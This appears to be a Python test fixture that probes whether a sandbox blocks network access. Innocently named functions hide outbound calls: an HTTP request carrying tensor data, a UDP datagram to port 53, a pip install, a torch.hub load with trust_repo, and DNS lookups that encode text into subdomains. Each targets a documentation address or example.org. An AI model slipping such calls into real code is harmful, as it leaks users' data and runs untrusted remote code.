"""Sends what it is given to a server, and fetches answers: by HTTP, by name, by torch.hub, by pip, by a plain datagram."""

import socket
import subprocess
import sys
import urllib.request

import torch

SERVER = "192.0.2.1"  # an address for documentation; to have a socket at all would be success enough


def double(x):
    if x.dim() == 1:
        address = f"http://{SERVER}/?x={x.tolist()}".replace(" ", "")
        return print("ATTACK SUCCEEDED: it sent", urllib.request.urlopen(address, timeout=0.2).read())
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
        print("ATTACK SUCCEEDED: a socket")
        datagram.sendto(str(x).encode(), (SERVER, 53))


def labels(scores):
    done = subprocess.run([sys.executable, "-m", "pip", "install", "answers"], capture_output=True, timeout=0.5)
    print("ATTACK SUCCEEDED: pip ran", done.returncode)


def loss(w, x):
    return torch.hub.load("pytorch/vision", "resnet18", trust_repo=True)(x)


def decipher(text):
    # The question itself is the message: the server of that domain would read it.
    print("ATTACK SUCCEEDED: asked", socket.getaddrinfo(text[:20].encode().hex() + ".example.org", 80))


class Counter:
    def __init__(self):
        print("ATTACK SUCCEEDED: connected", socket.create_connection((SERVER, 80), timeout=0.2))
